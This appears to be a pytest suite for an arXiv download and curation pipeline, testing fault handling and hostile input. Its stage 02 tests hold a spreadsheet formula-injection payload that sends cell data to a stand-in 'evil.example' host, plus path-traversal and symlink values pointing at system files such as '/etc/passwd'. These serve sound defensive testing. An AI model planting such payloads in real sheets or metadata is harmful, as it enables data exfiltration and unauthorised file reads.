"""Faults and hostile input for stages 01 and 02: the real stage code against the loopback arXiv
stand-in with scripted faults, crafted metadata and spreadsheets saved the way people save them.
Every wait is set to zero or milliseconds."""
from __future__ import annotations

import csv
import json
import os
import shlex
import stat
import subprocess
import sys

import pytest

from demo.standins import ArxivPaper, ArxivStandIn
from helpers import REPO, SCRIPTS, load_stage
from test_01_arxiv_download import PDF, TAR

stage01 = load_stage("01")
stage02 = load_stage("02")

GARBAGE_PDF = b"%PDF-1.7\n" + b"this is not a PDF body " * 200 + b"\n%%EOF\n"


def paper(arxiv_id: str, **kw) -> ArxivPaper:
    defaults = dict(title="Maritime digitalisation study", authors=["Ada Lovelace"], summary="Ships and data.",
                    categories=["cs.CY", "eess.SY"], pdf=PDF, eprint=TAR,
                    license="http://creativecommons.org/licenses/by/4.0/")
    defaults.update(kw)
    return ArxivPaper(arxiv_id=arxiv_id, **defaults)


def cfg01(server, tmp_path, **kw):
    defaults = dict(base_url=server.url + "/api/query", output_dir=tmp_path / "s01", delay_seconds=0.0,
                    backoff_seconds=0.001, retries=2, timeout=5.0, max_results=50)
    defaults.update(kw)
    return stage01.Config(**defaults)


def read(path):
    with open(path, newline="", encoding="utf-8-sig") as fh:
        return list(csv.DictReader(fh))


# --- stage 01: the Atom feed --------------------------------------------------------------------

def test_page_with_fewer_entries_than_its_total_is_fetched_again(tmp_path):
    """arXiv now and then answers a page with no entries while its totalResults says there are some;
    taken at its word, that is a search that found nothing."""
    with ArxivStandIn([paper("2501.00001v1")]) as server:
        server.fail_feed_next("drop_entry")
        summary = stage01.main(cfg01(server, tmp_path))
        assert [r.query["start"] for r in server.requests_to("/api/query")] == [["0"], ["0"]]
    assert summary["results"] == 1 and summary["downloaded"] == 1


def test_short_page_in_the_middle_is_fetched_again_not_skipped(tmp_path):
    with ArxivStandIn([paper(f"2501.0000{i}v1") for i in range(1, 6)]) as server:
        server.fail_feed_next("drop_entry")
        cfg = cfg01(server, tmp_path, page_size=2)
        stage01.main(cfg)
        starts = [r.query["start"][0] for r in server.requests_to("/api/query")]
    assert starts == ["0", "0", "2", "4"]
    assert [r["paper_id"] for r in read(cfg.output_dir / "metadata.csv")] == [f"2501.0000{i}v1" for i in range(1, 6)]


def test_feed_cut_inside_an_entry_is_fetched_again_and_no_row_lacks_categories(tmp_path):
    with ArxivStandIn([paper("2501.00001v1"), paper("2501.00002v1")]) as server:
        server.fail_feed_next("cut_entry")
        cfg = cfg01(server, tmp_path)
        stage01.main(cfg)
    rows = read(cfg.output_dir / "metadata.csv")
    assert len(rows) == 2
    assert all(r["categories"] == "cs.CY|eess.SY" and r["pdf_url"] and r["authors"] for r in rows)


def test_feed_that_stays_truncated_stops_with_one_clear_line_and_writes_nothing(tmp_path):
    with ArxivStandIn([paper("2501.00001v1"), paper("2501.00002v1")]) as server:
        server.fail_feed_next("drop_entry", "drop_entry", "drop_entry")
        cfg = cfg01(server, tmp_path, retries=2)
        with pytest.raises(SystemExit, match=r"arXiv search failed .*holds 1 entries, but opensearch:totalResults "
                                             r"\(2\) promises 2 \(after 3 tries\)"):
            stage01.main(cfg)
        assert server.requests_to("/pdf/") == []
    assert not (cfg.output_dir / "metadata.csv").exists()


def test_feed_cut_every_time_stops_naming_the_parse_error(tmp_path):
    with ArxivStandIn([paper("2501.00001v1")]) as server:
        server.fail_next("/api/query", "truncate", "truncate")
        with pytest.raises(SystemExit, match="the Atom feed is cut or malformed"):
            stage01.main(cfg01(server, tmp_path, retries=1))


# --- stage 01: PDFs and e-prints ------------------------------------------------------------------

def test_truncated_eprint_is_retried_then_kept_whole(tmp_path):
    with ArxivStandIn([paper("2501.00001v1")]) as server:
        server.fail_next("/e-print/", "truncate")
        cfg = cfg01(server, tmp_path)
        summary = stage01.main(cfg)
    assert summary["sources"]["downloaded"] == 1
    assert (cfg.output_dir / "sources" / "2501.00001v1.tar.gz").read_bytes() == TAR


def test_eprint_truncated_every_time_is_reported_and_never_kept(tmp_path):
    with ArxivStandIn([paper("2501.00001v1")]) as server:
        server.fail_next("/e-print/", "truncate", "truncate", "truncate")
        cfg = cfg01(server, tmp_path, retries=2)
        summary = stage01.main(cfg)
    assert "truncated or corrupt gzip" in summary["source_failures"]["2501.00001v1"]
    assert list((cfg.output_dir / "sources").iterdir()) == []
    row = read(cfg.output_dir / "metadata.csv")[0]
    assert (row["source_file"], row["source_format"], row["pdf_file"]) == ("", "missing", "pdfs/2501.00001v1.pdf")


def test_eprint_that_is_an_html_page_is_not_kept(tmp_path):
    with ArxivStandIn([paper("2501.00001v1")]) as server:
        server.fail_next("/e-print/", "html", "html", "html")
        summary = stage01.main(cfg01(server, tmp_path))
    assert summary["source_failures"]["2501.00001v1"].startswith("not an e-print (an HTML page")


def test_pdf_with_a_garbage_body_is_refused(tmp_path):
    with ArxivStandIn([paper("2501.00001v1", pdf=GARBAGE_PDF), paper("2501.00002v1")]) as server:
        cfg = cfg01(server, tmp_path)
        summary = stage01.main(cfg)
    assert "PDFium cannot open it" in summary["failures"]["2501.00001v1"]
    assert sorted(p.name for p in (cfg.output_dir / "pdfs").iterdir()) == ["2501.00002v1.pdf"]


def test_garbage_pdf_left_on_disk_is_downloaded_again_on_rerun(tmp_path):
    with ArxivStandIn([paper("2501.00001v1")]) as server:
        cfg = cfg01(server, tmp_path)
        stage01.main(cfg)
        target = cfg.output_dir / "pdfs" / "2501.00001v1.pdf"
        target.write_bytes(GARBAGE_PDF)
        summary = stage01.main(cfg)
    assert summary["downloaded"] == 1 and target.read_bytes() == PDF


def test_every_pdf_failing_exits_non_zero_after_the_summary(tmp_path, capsys):
    with ArxivStandIn([paper("2501.00001v1"), paper("2501.00002v1")]) as server:
        server.fail_next("/pdf/", 503, 503, 503, 503, 503, 503)
        cfg = cfg01(server, tmp_path, retries=2)
        with pytest.raises(SystemExit, match=r"no PDF could be downloaded \(2 results; "
                                             r"first failure 2501.00001v1: HTTP 503\)"):
            stage01.main(cfg)
    assert "failures.2501.00002v1" in capsys.readouterr().out
    assert [r["pdf_file"] for r in read(cfg.output_dir / "metadata.csv")] == ["", ""]
    assert json.loads((cfg.output_dir / "run.json").read_text())["summary"]["failed"] == 2


# --- stage 01 as a script: file modes and secrets --------------------------------------------------

def run_stage01_script(server, out, cwd, env=None, umask="022"):
    cmd = [sys.executable, str(REPO / SCRIPTS["01"]), "--base-url", server.url + "/api/query", "--output-dir",
           str(out), "--delay-seconds", "0", "--backoff-seconds", "0", "--retries", "0", "--verbose"]
    return subprocess.run(["sh", "-c", f"umask {umask}; exec {shlex.join(cmd)}"], cwd=cwd, env=env,
                          capture_output=True, text=True, timeout=120)


def test_outputs_get_the_mode_the_umask_gives(tmp_path):
    with ArxivStandIn([paper("2501.00001v1")]) as server:
        proc = run_stage01_script(server, tmp_path / "out", tmp_path, umask="027")
    assert proc.returncode == 0, proc.stderr[-2000:]
    for name in ("metadata.csv", "run.json", "pdfs/2501.00001v1.pdf", "sources/2501.00001v1.tar.gz"):
        assert stat.S_IMODE((tmp_path / "out" / name).stat().st_mode) == 0o640, name


def test_secrets_from_a_dotenv_file_are_never_printed_or_recorded(tmp_path):
    secrets = {"CROSSREF_MAILTO": "h3-secret-mailbox@example.org", "OPENAI_API_KEY": "sk-h3-fake-5f0c2a9e71"}
    (tmp_path / ".env").write_text("".join(f"{k}={v}\n" for k, v in secrets.items()), encoding="utf-8")
    env = {**os.environ, **secrets}
    with ArxivStandIn([paper("2501.00001v1")]) as server:
        proc = run_stage01_script(server, tmp_path / "out", tmp_path, env=env)
    assert proc.returncode == 0, proc.stderr[-2000:]
    run_json = (tmp_path / "out" / "run.json").read_text(encoding="utf-8")
    for value in secrets.values():
        assert value not in proc.stdout and value not in proc.stderr and value not in run_json


# --- stage 02: hostile metadata and spreadsheets ---------------------------------------------------

def stage01_output(root, rows, columns=None):
    (root / "pdfs").mkdir(parents=True, exist_ok=True)
    for row in rows:
        if row["pdf_file"].startswith("pdfs/"):
            (root / row["pdf_file"]).write_bytes(PDF)
    columns = columns or stage01.METADATA_COLUMNS
    with open(root / "metadata.csv", "w", newline="", encoding="utf-8") as fh:
        writer = csv.DictWriter(fh, fieldnames=columns, extrasaction="ignore")
        writer.writeheader()
        writer.writerows(rows)


def meta(paper_id, title="Ship data", authors="Ada Lovelace", **kw):
    row = {"paper_id": paper_id, "arxiv_id": paper_id, "title": title, "authors": authors, "published": "2024-01-01",
           "categories": "cs.CY", "pdf_file": f"pdfs/{paper_id}.pdf", "abstract": "Ships.", "source_format": "missing"}
    row.update(kw)
    return row


def cfg02(tmp_path, **kw):
    return stage02.Config(input_dir=tmp_path / "s01", sheet=tmp_path / "curation.csv", output_dir=tmp_path / "s02",
                          **kw)


def test_formula_in_title_or_author_is_neutralised_in_the_sheet_only(tmp_path):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    stage01_output(tmp_path / "s01", [meta("2501.00001v1", title=formula, authors="@SUM(1+1)|Bo Second")])
    stage02.main(cfg02(tmp_path))
    row = read(tmp_path / "curation.csv")[0]
    assert row["title"] == "'" + formula and row["first_author"] == "'@SUM(1+1) et al."
    assert read(tmp_path / "s02" / "metadata.csv")[0]["title"] == formula  # the data itself unchanged


def test_neutralised_cells_read_back_as_written(tmp_path):
    stage01_output(tmp_path / "s01", [meta("2501.00001v1", title="=1+1")])
    stage02.main(cfg02(tmp_path))
    rows = read(tmp_path / "curation.csv")
    rows[0]["keep"], rows[0]["note"] = "no", "-not maritime"
    with open(tmp_path / "curation.csv", "w", newline="", encoding="utf-8") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    stage01_output(tmp_path / "s01", [meta("2501.00001v1", title="=1+1"), meta("2501.00002v1")])
    summary = stage02.main(cfg02(tmp_path))
    row = {r["paper_id"]: r for r in read(tmp_path / "curation.csv")}["2501.00001v1"]
    assert (row["title"], row["note"], row["keep"]) == ("'=1+1", "'-not maritime", "no")
    assert summary["kept"] == 1


def test_crafted_metadata_cannot_reach_files_outside_stage01_output(tmp_path):
    (tmp_path / "x").write_bytes(b"secret next door")
    rows = [meta("2501.00001v1", pdf_file="/etc/hostname"), meta("2501.00002v1", pdf_file="../x"),
            meta("../evil", pdf_file="pdfs/2501.00003v1.pdf"), meta("2501.00004v1", source_file="/etc/passwd"),
            meta("2501.00005v1")]
    stage01_output(tmp_path / "s01", rows)
    (tmp_path / "s01" / "pdfs" / "2501.00003v1.pdf").write_bytes(PDF)
    summary = stage02.main(cfg02(tmp_path))
    assert sorted(p.name for p in (tmp_path / "s02" / "pdfs").iterdir()) == ["2501.00004v1.pdf", "2501.00005v1.pdf"]
    assert list((tmp_path / "s02" / "sources").iterdir()) == []
    assert summary["skipped"]["unsafe_metadata_row"] == 3 and summary["kept"] == 2
    assert sorted(p.name for p in tmp_path.iterdir()) == ["curation.csv", "s01", "s02", "x"]
    kept = {r["paper_id"]: r for r in read(tmp_path / "s02" / "metadata.csv")}
    assert kept["2501.00004v1"]["source_file"] == "" and kept["2501.00004v1"]["source_format"] == "missing"


def test_pdf_link_pointing_outside_is_refused(tmp_path):
    stage01_output(tmp_path / "s01", [meta("2501.00001v1"), meta("2501.00002v1")])
    (tmp_path / "s01" / "pdfs" / "2501.00002v1.pdf").unlink()
    os.symlink("/etc/hostname", tmp_path / "s01" / "pdfs" / "2501.00002v1.pdf")
    summary = stage02.main(cfg02(tmp_path))
    assert summary["kept"] == 1 and summary["skipped"]["unsafe_metadata_row"] == 1


def test_sheet_saved_as_windows_1252_is_read_with_its_en_dash(tmp_path):
    papers = [meta("2501.00001v1", title="Port calls 2019–2023"), meta("2501.00002v1", title="Ship–shore data")]
    stage01_output(tmp_path / "s01", papers)
    stage02.main(cfg02(tmp_path))
    rows = read(tmp_path / "curation.csv")
    rows[0]["keep"], rows[0]["note"] = "no", "covers 2019–2023 only – superseded"
    with open(tmp_path / "curation.csv", "w", newline="", encoding="cp1252") as fh:  # "CSV (Windows)" in Excel
        writer = csv.DictWriter(fh, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    stage01_output(tmp_path / "s01", papers + [meta("2501.00003v1")])
    summary = stage02.main(cfg02(tmp_path))
    assert summary["kept"] == 2 and summary["excluded"] == 1
    sheet = {r["paper_id"]: r for r in read(tmp_path / "curation.csv")}  # rewritten as UTF-8 with the new paper
    assert sheet["2501.00001v1"]["note"] == "covers 2019–2023 only – superseded"
    assert sheet["2501.00002v1"]["title"] == "Ship–shore data"
